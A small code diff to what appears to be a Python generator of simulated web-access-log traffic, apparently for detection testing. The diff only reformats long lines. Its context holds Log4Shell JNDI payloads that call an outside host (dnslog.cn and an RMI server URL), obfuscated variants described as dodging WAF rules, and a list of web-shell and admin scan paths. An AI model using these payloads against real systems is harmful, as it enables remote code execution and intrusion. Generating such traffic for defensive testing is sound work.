@@ -174,7 +174,8 @@ def log4shell(tr: Traffic) -> None:
     ip = tr.attacker("log4shell")      # in the query string, raw (curl --path-as-is style)
     t = _start(tr)
     tr.access(t, ip, "GET", f"/?x=${{jndi:ldap://{tr.rng.getrandbits(32):x}.dnslog.cn/a}}", 200,
-              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0 Safari/537.36")
+              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0 "
+              "Safari/537.36")
     ip = tr.attacker("log4shell")      # obfuscated lookups that dodged the first WAF rules
     t = _start(tr)
     tr.access(t, ip, "GET", "/${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://185.220.101.7:1099/Exploit}", 404,
@@ -374,7 +375,8 @@ SCAN_PATHS = ["/admin.php", "/shell.php", "/wso.php", "/cmd.php", "/upload.php",
               "/administrator/index.php", "/manager/html", "/console", "/solr/", "/owa/auth/logon.aspx", "/boaform/"
               "admin/formLogin", "/HNAP1/", "/cgi-bin/luci", "/setup.cgi", "/GponForm/diag_Form", "/.well-known/"
               "shell.php", "/wp-includes/wp-class.php", "/about.php", "/radio.php", "/index/login", "/user/login",
-              "/login.action", "/struts2-showcase/", "/jenkins/login", "/druid/index.html", "/nacos/", "/geoserver/web/"]
+              "/login.action", "/struts2-showcase/", "/jenkins/login", "/druid/index.html", "/nacos/",
+              "/geoserver/web/"]
 
 
 def http_404_scan(tr: Traffic) -> None:
